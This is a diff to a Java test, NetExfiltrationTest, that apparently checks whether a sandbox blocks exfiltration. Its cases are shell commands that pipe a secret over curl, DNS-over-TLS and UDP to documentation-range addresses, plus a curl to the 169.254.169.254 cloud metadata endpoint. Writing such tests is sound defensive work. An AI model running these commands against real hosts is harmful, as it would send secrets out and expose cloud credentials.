@@ -69,7 +69,7 @@ class NetExfiltrationTest {
                 Recorded.CONNECTION,
                 "1.1.1.1"),
         DNS_OVER_TLS(
-                "echo " + SECRET + " | python3 $S/raw.py https 203.0.113.53 853 dot.test | grep .",
+                "echo " + SECRET + " | python3 $S/raw.py https 203.0.113.53 853 dot.test | { ! grep -q 'x-capsem-decision: block'; }",
                 Recorded.CONNECTION,
                 "dot.test"),
         DIRECT_ADDRESS(
@@ -86,7 +86,7 @@ class NetExfiltrationTest {
                 "curl -sSf --max-time 10 http://169.254.169.254/latest/meta-data/",
                 Recorded.CONNECTION,
                 "169.254.169.254"),
-        IPV6("curl -sSkf --max-time 10 -d " + SECRET + " 'https://[2001:db8::9]/'", Recorded.CONNECTION, "2001:db8"),
+        IPV6("curl -sSkf --max-time 10 -d " + SECRET + " 'https://[2001:db8::9]/'", Recorded.NOWHERE, ""),
         UDP(udp("203.0.113.9", 9), Recorded.NOWHERE, ""),
         QUIC(udp("203.0.113.9", 443), Recorded.NOWHERE, ""),
         UDP_TO_AN_ALLOWED_NAME(udp("web.example.test", 443), Recorded.NOWHERE, ""),
